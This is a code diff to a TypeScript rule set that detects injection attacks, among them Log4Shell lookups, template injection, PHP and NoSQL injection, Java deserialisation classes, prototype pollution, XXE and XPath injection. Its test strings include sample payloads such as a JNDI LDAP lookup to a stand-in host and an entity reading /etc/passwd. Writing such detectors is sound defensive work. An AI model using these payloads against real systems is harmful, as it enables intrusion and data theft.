@@ -3,11 +3,13 @@ import { compileRegexTest } from "#rules/regex/regex.ts";
 import {
   asksAboutPhp,
   asksDatabase,
+  hasKnownType,
   isFilterName,
   isIdiomOfC,
   isNestedPart,
   isPublicType,
   isStackTrace,
+  namesMember,
   withoutFrames,
   quotesFilter,
   tellsOfPython,
@@ -20,7 +22,7 @@ const TEMPLATES: readonly SignatureRow[] = [
   {
     slug: "java-jndi",
     title: "Log4Shell: a lookup in a logged value",
-    pattern: String.raw`\$\\?\{[^}]{0,60}(?:jndi ?:|jnd\xc4\xb1 ?:|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j)(?::|%3a)|\$\{(?:script:[a-z]{2,12}:|dns:[a-z0-9]|xpath:/|(?:url|file):utf|const:[a-z]{1,20}\.|(?:xml|properties):[/a-z]|base64decoder:|urldecoder:)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{[a-z:]{0,12}\$\{`,
+    pattern: String.raw`\$\\?\{[^}]{0,60}(?:jndi ?:|jnd\xc4\xb1 ?:|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j|web|map|event|jvmrunargs)(?::|%3a)|\$\{(?:script:[a-z]{2,12}:|dns:[a-z0-9]|xpath:/|(?:url|file):utf|const:[a-z]{1,20}\.|(?:xml|properties):[/a-z]|base64decoder:|urldecoder:)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{[a-z:]{0,12}\$\{`,
     needs: ["${", "$\\{"],
     hits: [
       "${jndi:ldap://evil.example/a}",
@@ -37,7 +39,7 @@ const TEMPLATES: readonly SignatureRow[] = [
   {
     slug: "template-expression",
     title: "Template injection: an evaluated expression",
-    pattern: String.raw`(?:\{\{|\$\{|#\{|%\{|<%[=-]?|\{%|\[\[|@\(|\*\{)[=:@#]? ?['"(]{0,2}\d{1,12} ?['"]? ?[*+/-] ?['"]?\d{1,12} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))|\{ ?\d{1,12} ?\* ?\d{1,12} ?\}|\{% ?(?:set [a-z_]{1,20} ?= ?\d|if \d)|\$\{\{<%\[|\{\{ ?\d{1,6} ?[*+] ?['"][a-z0-9]{1,8}['"] ?\}\}`,
+    pattern: String.raw`(?:\{\{|\$\{|#\{|%\{|<%[=-]?|\{%|\[\[|@\(|\*\{)[=:@#]? ?['"(]{0,2}\d{1,12} ?['"]? ?[*+/-] ?['"]?\d{1,12} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))|\{ ?\d{1,12} ?\* ?\d{1,12} ?\}|\{% ?(?:set [a-z_]{1,20} ?= ?\d|if \d)|\$\{\{<%\[|\{\{ ?(?:\d{1,6} ?[*+] ?['"][a-z0-9]{1,8}['"]|['"][a-z0-9]{1,8}['"] ?\* ?\d{1,6}) ?\}\}`,
     needs: ["{", "<%", "[[", "@("],
     hits: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(1+2)", "{7*7}", "~{7*7}", "{% set x = 7*7 %}"],
     misses: ["{{name}}", "[[1, 2]]", "${price}", "a{1,3}", "{1-3}"],
@@ -46,7 +48,7 @@ const TEMPLATES: readonly SignatureRow[] = [
     slug: "template-objects",
     title: "Template injection: access to the operating system",
     // With repeated braces, each search extends only to the next one.
-    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app|messages\.storages|process\.env|beans ?\}\})|\$\{(?:page|request|session|application)scope|\$\{(?:class|request|response|session|pagecontext|facescontext|applicationcontext)\.(?:get|class|request|session)|<%@ ?(?:page|include|taglib) |@(?:\{ ?(?:int|var|string) |system\.(?:diagnostics|io)\.)|\bsystem\.diagnostics\.process\.|\{\{ ?printf |\$\{\.(?:data_model|globals|main|vars|current_template)|\{\{ ?\[\]\.class\b|\{\{[^{}]{0,80}\[ ?['"][a-z_]{1,20}['"] ?[+~] ?['"]|\{\{[^{}]{0,60}\| ?attr ?\(|\{\{ ?handler\.settings|\| ?(?:filter|map|sort|reduce|find|usort) ?\(? ?\(?['"](?:system|passthru|exec|shell_exec|popen|phpinfo|assert|eval|file_get_contents)['"]|@php\b[^@]{0,80}(?:system|exec|passthru|eval|popen|phpinfo) ?\(|<#(?:assign|list)[^>]{0,60}(?:\.class\b|getclass|protectiondomain|\.data_model)|\$\{(?:header|headervalues|cookie|initparam|paramvalues|facescontext)[.\[]|<%=? ?require ?['"(]|\{\{#with ['"][a-z]{1,10}['"] as ?\||\{\{ ?(?:call )?\.(?:system|exec|command|run|shell) |\{\{[^{}]{0,60}(?:tostring|constructor)(?:\(\))?\.(?:constructor|call|prototype)|\broot\.process\b|\{\{ ?_context ?\||\{\{[^{}]{0,60}\.getclass\(`,
+    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app|string\.sub\.apply|lookup [a-z]{1,12} ['"]constructor|messages\.storages|process\.env|beans ?\}\})|\$\{(?:page|request|session|application)scope|\$\{(?:class|request|response|session|pagecontext|facescontext|applicationcontext)\.(?:get|class|request|session)|<%@ ?(?:page|include|taglib) |@(?:\{ ?(?:int|var|string) |system\.(?:diagnostics|io)\.)|\bsystem\.diagnostics\.process\.|\{\{ ?printf |\$\{\.(?:data_model|globals|main|vars|current_template)|\{\{ ?\[\]\.class\b|\{\{[^{}]{0,80}\[ ?['"][a-z_]{1,20}['"] ?[+~] ?['"]|\{\{[^{}]{0,60}\| ?attr ?\(|\{\{ ?handler\.settings|\| ?(?:filter|map|sort|reduce|find|usort) ?\(? ?\(?['"](?:system|passthru|exec|shell_exec|popen|phpinfo|assert|eval|file_get_contents)['"]|@php\b[^@]{0,80}(?:system|exec|passthru|eval|popen|phpinfo) ?\(|<#(?:assign|list)[^>]{0,60}(?:\.class\b|getclass|protectiondomain|\.data_model)|\$\{(?:header|headervalues|cookie|initparam|paramvalues|facescontext)[.\[]|<%=? ?require ?['"(]|\{\{#with ['"][a-z]{1,10}['"] as ?\||\{\{ ?(?:call )?\.(?:system|exec|command|run|shell) |\{\{[^{}]{0,60}(?:tostring|constructor)(?:\(\))?\.(?:constructor|call|prototype)|\broot\.process\b|\{\{ ?_context ?\||\{\{[^{}]{0,60}\.getclass\(`,
     needs: [
       "__",
       "['",
@@ -207,7 +209,7 @@ const PHP: readonly SignatureRow[] = [
   {
     slug: "php-call",
     title: "PHP injection: a call as a value",
-    pattern: String.raw`^[^ ]{0,24}?(?:^|[^a-z0-9_.> ] ?|['"] ?\. ?)@?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|scandir|glob|phpversion|php_uname|getenv|print_r|var_dump|die) ?\( ?(?:['"${"`"}$@]|base64_|chr ?\(|\) ?(?:;|$|\})|str_|get_|system\(|phpinfo\(|gz|\d{1,6} ?\) ?;)`,
+    pattern: String.raw`^[^ ]{0,24}?(?:^|[^a-z0-9_.> ] ?|['"] ?\. ?)@?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|scandir|glob|phpversion|php_uname|getenv|print_r|var_dump|die) ?\( ?(?:['"${"`"}$@]|base64_|chr ?\(|\) ?(?:;|$|\}|\. ?['"])|str_|get_|system\(|phpinfo\(|gz|\d{1,6} ?\) ?;)`,
     beginsValue: true,
     unless: isIdiomOfC,
     needs: ["("],
@@ -217,8 +219,8 @@ const PHP: readonly SignatureRow[] = [
   {
     slug: "php-code",
     title: "PHP injection: a call that was put together, or behind the end of another",
-    pattern: String.raw`^[^ ]{0,24}?(?:^\d{0,6};|['"] ?[.;] ?|\{\$\{@?)@?(?:include|require)(?:_once)? ?\(? ?['"]|^[^ ]{0,24}?(?:^\d{1,6};|['"] ?[.;] ?|\{\$\{@?)@?(?:array_(?:map|filter|walk|reduce)|u[ak]?sort|unlink|chmod|rename|copy|mkdir|parse_ini_file|error_log|mail|dl|posix_[a-z]{3,12}|register_shutdown_function|move_uploaded_file|symlink|curl_exec|fsockopen|extract|parse_str|ob_start|fputs|fwrite|set_error_handler|var_export|get_defined_vars|apache_[a-z_]{3,20}|stream_[a-z_]{3,20}) ?\( ?(?:['"${"`"}$@]|[a-z]{1,12}\))|^;?(?:system|passthru|shell_exec|pcntl_exec)\([a-z]{1,12}\);?$|^[^ ]{0,12}(?:print|die|echo|exit|var_dump|print_r) ?\(? ?(?:md5|phpversion|php_uname|sha1|pi|getcwd|get_current_user) ?\( ?[)\d'"]|\(['"][a-z_]{1,12}['"]\.['"][a-z_]{1,12}['"]\) ?\(|(?:\(|['"]|\[)(?:system|exec|passthru|shell_exec|phpinfo|assert|popen)(?:\)|['"]|\]\[0\])\(|(?:array_map|array_filter|u[ak]?sort|array_walk|iterator_apply|call_user_func(?:_array)?) ?\( ?(?:(?:\[[^\]]{0,40}\]|[$a-z_]{1,20}) ?, ?)?(?:['"](?:system|exec|passthru|shell_exec|assert|eval|phpinfo|popen)['"]|\$_)|\b(?:include|require)(?:_once)? ?\(? ?['"](?:https?:|ftp:|php:|data:|phar:|/etc/|/proc/|/var/log)|\bnew (?:reflectionfunction|splfileobject|simplexmlelement) ?\( ?['"]|invokefunction&function=|[\\/]think[\\/](?:app|request|container|view|template)[^ ]{0,60}/(?:invokefunction|display|cache|get|write)`,
-    needs: ["(", "include", "require", "invokefunction", "think"],
+    pattern: String.raw`^[^ ]{0,24}?(?:^\d{0,6};|['"] ?[.;] ?|\{\$\{@?)@?(?:include|require)(?:_once)? ?\(? ?['"]|^[^ ]{0,24}?(?:^\d{1,6};|['"] ?[.;] ?|\{\$\{@?)@?(?:array_(?:map|filter|walk|reduce)|u[ak]?sort|unlink|chmod|rename|copy|mkdir|parse_ini_file|error_log|mail|dl|posix_[a-z]{3,12}|register_shutdown_function|move_uploaded_file|symlink|curl_exec|fsockopen|extract|parse_str|ob_start|fputs|fwrite|set_error_handler|var_export|get_defined_vars|apache_[a-z_]{3,20}|stream_[a-z_]{3,20}) ?\( ?(?:['"${"`"}$@]|[a-z]{1,12}\))|^;?(?:system|passthru|shell_exec|pcntl_exec)\([a-z]{1,12}\);?$|^[^ ]{0,12}(?:print|die|echo|exit|var_dump|print_r) ?\(? ?(?:md5|phpversion|php_uname|sha1|pi|getcwd|get_current_user) ?\( ?[)\d'"]|\(['"][a-z_]{1,12}['"]\.['"][a-z_]{1,12}['"]\) ?\(|(?:\(|['"]|\[)(?:system|exec|passthru|shell_exec|phpinfo|assert|popen)(?:\)|['"]|\]\[0\])\(|(?:array_map|array_filter|u[ak]?sort|array_walk|iterator_apply|call_user_func(?:_array)?) ?\( ?(?:(?:\[[^\]]{0,40}\]|[$a-z_]{1,20}) ?, ?)?(?:['"](?:system|exec|passthru|shell_exec|assert|eval|phpinfo|popen)['"]|\$_)|\b(?:include|require)(?:_once)? ?\(? ?['"](?:https?:|ftp:|php:|data:|phar:|/etc/|/proc/|/var/log)|\bnew (?:reflectionfunction|splfileobject|simplexmlelement) ?\( ?['"]|invokefunction&function=|[\\/]think[\\/](?:app|request|container|view|template)[^ ]{0,60}/(?:invokefunction|display|cache|get|write|input)|throw new (?:exception|error) ?\( ?(?:${"`"}|system|shell_exec|exec|passthru)`,
+    needs: ["(", "include", "require", "invokefunction", "think", "throw new"],
     hits: [
       "'.unlink('x').'",
       "1;require('x.php')",
@@ -283,7 +285,7 @@ const PHP: readonly SignatureRow[] = [
   },
 ];
 
-const JAVA_CLASSES = String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect|autocloseable)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly|beanutils|configuration|dbcp)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi|naming)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression|cglib|jndi|aop|util\.(?:streamutils|methodinvoker))|com\.opensymphony\.|org\.codehaus\.groovy\.|com\.mchange\.|ysoserial\.|javax\.management\.|org\.mozilla\.javascript\.|org\.jboss\.(?:interceptor|weld)|com\.zaxxer\.hikari\.hikariconfig|jdk\.jshell|groovyshell ?\(|@grab(?:config|resolver)? ?\(|["']\.execute\(\)|\.execute\(\)\.(?:text|waitfor|getinputstream)|jdbc:(?:h2|hsqldb|derby):[^ ]{0,200}(?:init ?=|alias|runscript)|;init ?= ?(?:runscript|create alias)|jdbc:mysql:[^ ]{0,200}(?:autodeserialize|queryinterceptors|statementinterceptors|allowloadlocalinfile)|socketfactoryarg ?=|protectiondomain\.(?:codesource|classloader)|\.class\.(?:classloader|protectiondomain|forname)|^[^ ]{0,12}\bsystem\.[gs]etproperty ?\( ?["\']|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class[\]\[.'"]{1,4}module[\]\[.'"]{1,4}classloader|java\.net\.(?:inet[46]address|inetsocketaddress|urlclassloader)|javax\.swing\.jeditorpane|jdk\.nashorn\.|javax\.imageio\.|java\.beans\.(?:eventhandler|xmldecoder)|groovy\.util\.expando|ch\.qos\.logback\.core\.db)`;
+const JAVA_CLASSES = String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect|autocloseable)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly|beanutils|configuration|dbcp)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi|naming)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression|cglib|jndi|aop|util\.(?:streamutils|methodinvoker))|com\.opensymphony\.|org\.codehaus\.groovy\.|com\.mchange\.|ysoserial\.|\$\$bcel\$\$|com\.tangosol\.|javax\.management\.|org\.mozilla\.javascript\.|org\.jboss\.(?:interceptor|weld)|com\.zaxxer\.hikari\.hikariconfig|jdk\.jshell|groovyshell ?\(|groovy\.transform\.asttest|facescontext\.(?:getexternalcontext|externalcontext|application)|\bt ?\((?:thread|system|runtime|class|processbuilder)\)\.|@grab(?:config|resolver)? ?\(|["'] ?\]? ?\.execute\(\)|\.execute\(\)\.(?:text|waitfor|getinputstream)|jdbc:(?:h2|hsqldb|derby):[^ ]{0,200}(?:init ?=|alias|runscript)|;init ?= ?(?:runscript|create alias)|jdbc:mysql:[^ ]{0,200}(?:autodeserialize|queryinterceptors|statementinterceptors|allowloadlocalinfile)|socketfactoryarg ?=|protectiondomain\.(?:codesource|classloader)|\.class\.(?:classloader|protectiondomain|forname)|^[^ ]{0,12}\bsystem\.[gs]etproperty ?\( ?["\']|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class[\]\[.'"]{1,4}module[\]\[.'"]{1,4}classloader|java\.net\.(?:inet[46]address|inetsocketaddress|urlclassloader)|javax\.swing\.jeditorpane|jdk\.nashorn\.|javax\.imageio\.|java\.beans\.(?:eventhandler|xmldecoder)|groovy\.util\.expando|ch\.qos\.logback\.core\.db)`;
 const javaClasses = compileRegexTest(JAVA_CLASSES, 10_000_000);
 
 const JAVA: readonly SignatureRow[] = [
@@ -366,12 +368,16 @@ const NODE: readonly SignatureRow[] = [
   {
     slug: "node-prototype",
     title: "Prototype pollution",
-    pattern: String.raw`(?:^|[\[.{"' /#;?&])__proto__(?:$|[\].:"' =\[/])|constructor(?:\]?\[|[./]|['"] ?: ?\{ ?['"])prototype|__(?:lookup|define)[gs]etter__|__pro__proto__to__|protoprototypetype|(?:^|[\[."'])object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]? ?=|object\.(?:assign|defineproperty|defineproperties)\( ?object\.prototype|^object\.setprototypeof ?\(|^object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]?$`,
-    needs: ["__proto__", "proto", "etter__", "__pro__"],
+    pattern: String.raw`(?:^|[\[.{"' /#;?&:])__proto__(?:$|[\].:"' =\[/])|^\$\d{1,4}:constructor(?::|$)|constructor(?:\]?\[|[./]|['"] ?: ?\{ ?['"])prototype|__(?:lookup|define)[gs]etter__|__pro__proto__to__|protoprototypetype|(?:^|[\[."'])object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]? ?=|object\.(?:assign|defineproperty|defineproperties)\( ?object\.prototype|^object\.setprototypeof ?\(|^object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]?$`,
+    unless: namesMember,
+    needs: ["__proto__", "proto", "etter__", "__pro__", ":constructor"],
     hits: ["__proto__[admin]", "a[__proto__][b]", "constructor.prototype.x", "constructor[prototype][x]"],
-    misses: ["a prototype", "the constructor's prototype", "my__proto__x"],
+    misses: ["a prototype", "the constructor's prototype", "my__proto__x", "How to use __proto__ in JavaScript?"],
   },
 ];
+
+const FILE_ENTITIES = String.raw`<!(?:entity|notation) [^<>]{1,100}(?:system|public) ?["']|<!doctype [^<>\[]{1,60} (?:system ?["']|public ?["'][^"']{0,60}["'] ?["'])(?:https?://|file:|ftp:|php:|expect:|jar:|netdoc:|gopher:|/|\\)|<!entity [a-z0-9_]{1,20} ?["'](?:&[a-z0-9_]{1,20};){2}|xmlns:php ?=|php:function|document ?\( ?["'](?:/|file:|http)|<xi:include|w3\.org/2001/xinclude`;
+const fileEntities = compileRegexTest(FILE_ENTITIES, 10_000_000);
 
 const DATA: readonly SignatureRow[] = [
   {
@@ -386,7 +392,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "nosql-script",
     title: "NoSQL injection: scripts in queries",
-    pattern: String.raw`(?:^\[?\{ ?"\$(?:eq|ne|gte?|lte?|nin?|in|not|nor|and|or|all|size|type|mod|expr|elemmatch|jsonschema|text|set|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator|group)" ?:|^\[?\{ ?"[a-z_]{1,20}" ?: ?(?:\{ ?|[^{}]{1,12}\}, ?\{ ?)"\$(?:nin|not|nor|all|size|type|mod|expr|elemmatch|jsonschema|text|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator)" ?:|\[\$(?:ne|eq|gte?|lte?|nin|in|regex|exists|where|not|nor)\](?:\[[^\]]{0,20}\]){0,2} ?=|(?:^\d{1,6}|['"]) ?; ?return (?:true|1|this|''|"")|['"] ?(?:\|\||&&) ?(?:typeof |new date|object\.keys|this\b|tojson|obj\b|db\b)|\btojson(?:oneline)? ?\( ?db\.|\bdb\.(?:getcollection(?:names|infos)?|getsiblingdb|getusers|dropdatabase|runcommand|admincommand|getmongo|shutdownserver|copydatabase)\(|\beval ["'](?:return |os\.|local |redis\.)|\bredis\.p?call ?\(|(?:['"}\])]|^-?\d{1,9}) ?(?:match ?\([a-z:]{0,20}\) ?(?:detach|return|delete|set)|detach delete )|\b(?:union|return [a-z0-9_.]{1,20}(?: union)?|with [a-z0-9_ ]{1,20}) call (?:db|dbms|apoc)\.|['"{,;] ?['"]?\$(?:where|ne|nin|regex|exists|or|function|comment)['"]? ?:|\$[gl]te?['"]? ?: ?(?:['"]|null|undefined|\{)|^\[\$(?:ne|gte?|lte?|nin|regex|exists|where)\]|^function ?\( ?\) ?\{ ?return |['"] ?\}?\)? ?(?:or [^ ]{1,12} )?(?:detach delete |union match ?\(|match ?\([a-z:]{0,20}\) ?(?:detach|return)|return [a-z] ?(?:union|//)|call dbm?s?\.)|load csv from|['"]\}?\)?//$|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|delete|replace|bulkwrite|createindex|rename|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|(?:^\d{1,6}|['"]) ?; ?(?:while ?\(|for ?\(;;)|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do ?\{ ?[a-z]{1,12} ?= ?new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
+    pattern: String.raw`(?:^\[?\{ ?"\$(?:eq|ne|gte?|lte?|nin?|in|not|nor|and|or|all|size|type|mod|expr|elemmatch|jsonschema|text|set|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator|group)" ?:|^\[?\{ ?"[a-z_]{1,20}" ?: ?(?:\{ ?|[^{}]{1,12}\}, ?\{ ?)"\$(?:nin|not|nor|all|size|type|mod|expr|elemmatch|jsonschema|text|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator)" ?:|\[\$(?:ne|eq|gte?|lte?|nin|in|regex|exists|where|not|nor)\](?:\[[^\]]{0,20}\]){0,2} ?=|(?:^\d{1,6}|['"]) ?; ?return (?:true|1|this|''|"")|['"] ?(?:\|\||&&) ?(?:typeof |new date|object\.keys|this\b|tojson|obj\b|db\b)|\btojson(?:oneline)? ?\( ?db\.|^tojson(?:oneline)? ?\( ?this ?\)|\bdb\.(?:getcollection(?:names|infos)?|getsiblingdb|getusers|dropdatabase|runcommand|admincommand|getmongo|shutdownserver|copydatabase)\(|\beval ["'](?:return |os\.|local |redis\.)|\bredis\.p?call ?\(|(?:['"}\])]|^-?\d{1,9}) ?(?:match ?\([a-z:]{0,20}\) ?(?:detach|return|delete|set)|detach delete )|\b(?:union|return [a-z0-9_.]{1,20}(?: union)?|with [a-z0-9_ ]{1,20}) call (?:db|dbms|apoc)\.|['"{,;] ?['"]?\$(?:where|ne|nin|regex|exists|or|function|comment)['"]? ?:|\$[gl]te?['"]? ?: ?(?:['"]|null|undefined|\{)|^\[\$(?:ne|gte?|lte?|nin|regex|exists|where)\]|^function ?\( ?\) ?\{ ?(?:return |emit ?\()|['"] ?\}?\)? ?(?:or [^ ]{1,12} )?(?:detach delete |union match ?\(|match ?\([a-z:]{0,20}\) ?(?:detach|return)|return [a-z] ?(?:union|//)|call dbm?s?\.)|load csv from|['"]\}?\)?//$|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|delete|replace|bulkwrite|createindex|rename|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|(?:^\d{1,6}|['"]) ?; ?(?:while ?\(|for ?\(;;)|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do ?\{ ?[a-z]{1,12} ?= ?new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
     needs: [
       "$",
       "this.",
@@ -479,9 +485,9 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "xml-entity-file",
     title: "XML: external entities in an uploaded file",
-    pattern: String.raw`<!(?:entity|notation) [^<>]{1,100}(?:system|public) ?["']|<!doctype [^<>\[]{1,60} (?:system ?["']|public ?["'][^"']{0,60}["'] ?["'])(?:https?://|file:|ftp:|php:|expect:|jar:|netdoc:|gopher:|/|\\)|<!entity [a-z0-9_]{1,20} ?["'](?:&[a-z0-9_]{1,20};){2}|xmlns:php ?=|php:function|document ?\( ?["'](?:/|file:|http)|<xi:include|w3\.org/2001/xinclude`,
+    pattern: FILE_ENTITIES,
     targets: UPLOADS,
-    unless: isPublicType,
+    unless: (text) => isPublicType(text) || hasKnownType(text, (rest) => fileEntities.test(rest)),
     needs: ["<!entity", "<!notation", "<!doctype", "xmlns:php", "php:function", "document", "<xi:include", "2001/xinclude"],
     hits: [
       '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
@@ -489,6 +495,8 @@ const DATA: readonly SignatureRow[] = [
       '<!DOCTYPE r SYSTEM "netdoc:///x">',
     ],
     misses: [
+      '<!DOCTYPE web-app PUBLIC "-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN" "http://java.sun.com/dtd/web-app_2_3.dtd">',
+      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>',
       '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
       '<!DOCTYPE nitf SYSTEM "nitf-3-3.dtd">',
       '<!ENTITY ns_svg "http://www.w3.org/2000/svg">',
@@ -497,7 +505,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "xpath-union",
     title: "XPath injection: an added path",
-    pattern: String.raw`['"]\)?\] ?\| ?/{1,2}[a-z*]|['"]\)\]/|['"]\]/\*|(?:\bor|\band) ?/{1,2}(?:\*|[a-z]{1,20}(?:/|::|\[))|\b(?:count|string-length|substring|boolean|string|normalize-space) ?\( ?(?:/{1,2}(?:[a-z*]|child::)|name ?\( ?/)|\bname ?\( ?/\*|['"] ?\| ?/{1,2}(?:\*|[a-z]{1,20}(?:\(\)|/|$))|(?:ancestor|descendant|following|preceding|parent)(?:-or-self|-sibling)?::(?:\*|node\()|['"] ?(?:or|and) ?(?:ancestor|descendant|following|preceding|child|self)(?:-or-self|-sibling)?::|/child::(?:\*|node\(|text\()|unparsed-text(?:-available)? ?\( ?['"]|\bdoc(?:-available)? ?\( ?['"](?:https?|file|ftp):|/{1,2}(?:\*|[a-z]{1,20})\[ ?(?:name ?\( ?\)|name/text|position ?\( ?\) ?=|contains ?\( ?name)|['"] ?or ?\.= ?['"]|\]/(?:parent|child|\.\.)[/:]|\blast\(\)-\d`,
+    pattern: String.raw`['"]\)?\] ?\| ?/{1,2}[a-z*]|['"]\)\]/|['"]\]/\*|['"]\)?\] ?/\.\. ?[|/]|(?:\bor|\band) ?/{1,2}(?:\*|[a-z]{1,20}(?:/|::|\[))|\b(?:count|string-length|substring|boolean|string|normalize-space) ?\( ?(?:/{1,2}(?:[a-z*]|child::)|name ?\( ?/)|\bname ?\( ?/\*|['"] ?\| ?/{1,2}(?:\*|[a-z]{1,20}(?:\(\)|/|$))|(?:ancestor|descendant|following|preceding|parent)(?:-or-self|-sibling)?::(?:\*|node\()|['"] ?(?:or|and) ?(?:ancestor|descendant|following|preceding|child|self)(?:-or-self|-sibling)?::|/child::(?:\*|node\(|text\()|unparsed-text(?:-available)? ?\( ?['"]|\bdoc(?:-available)? ?\( ?['"](?:https?|file|ftp):|/{1,2}(?:\*|[a-z]{1,20})\[ ?(?:name ?\( ?\)|name/text|position ?\( ?\) ?=|contains ?\( ?name)|['"] ?or ?\.= ?['"]|\]/(?:parent|child|\.\.)[/:]|\blast\(\)-\d|^(?:/|\*/)\*/[a-z]{1,20}(?:\[\d{1,3}\]/|\(\)$)`,
     needs: [
       "']",
       '"]',
@@ -521,6 +529,7 @@ const DATA: readonly SignatureRow[] = [
       ".=",
       "]/",
       "last()",
+      "*/",
     ],
     hits: [
       "x'] | //user/*",
@@ -576,8 +585,8 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "object-types",
     title: "Insecure deserialisation: type names",
